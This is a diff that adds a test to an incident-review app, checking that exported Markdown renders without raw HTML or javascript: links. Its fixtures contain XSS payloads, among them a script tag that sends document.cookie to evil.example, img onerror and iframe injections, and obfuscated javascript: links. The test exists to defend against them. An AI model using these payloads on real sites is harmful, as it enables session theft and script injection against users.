@@ -1,4 +1,5 @@
 import { env } from 'cloudflare:test';
+import { HtmlRenderer, Parser } from 'commonmark';
 import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { getReview, saveReview } from '../../worker/directory/reviews';
 import { planEdit } from '../../worker/review/edit';
@@ -213,6 +214,27 @@ describe('post-incident review', () => {
     expect(md).toContain('- Ben: acknowledged, resolved');
     expect(md).toContain('## Key moments');
     expect(md).toContain('## Participants');
+  });
+
+  it('exports Markdown that renders no raw HTML and no javascript: link, from sections, titles, names and action items alike', async () => {
+    const inc = await openIncident(ana, { title: '<img src=x onerror=alert(1)> checkout' });
+    await command(ana, inc.id, 'resolve');
+    await start(ana, inc.id);
+    await edit(ana, inc.id, {
+      version: 1,
+      sections: {
+        summary: 'The <script>fetch("https://evil.example/?c="+document.cookie)</script> page broke. See [runbook](https://wiki.example/runbook).',
+        rootCause: '[click me](javascript:alert(document.cookie)) and [again](JaVaScRiPt\\:alert(1)) and <a href="javascript:alert(2)">here</a>\n\n[ref]: javascript:alert(3)\n\n`<b>as code</b>`',
+      },
+      actionItems: [{ title: '[pwn](javascript:alert(4)) <iframe src=//evil.example>' }],
+    });
+    const md = await (await api(`/api/incidents/${inc.id}/review.md`, { headers: vic.auth })).text();
+    const html = new HtmlRenderer({ safe: false }).render(new Parser().parse(md));
+    expect(html).not.toMatch(/<(script|img|iframe|a href="javascript)/i);
+    expect(html).not.toMatch(/href="\s*javascript:/i);
+    expect(html).toContain('<a href="https://wiki.example/runbook">runbook</a>');
+    expect(html).toContain('<code>&lt;b&gt;as code&lt;/b&gt;</code>');
+    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt; checkout');
   });
 
   it('exports the same review as a JSON document', async () => {
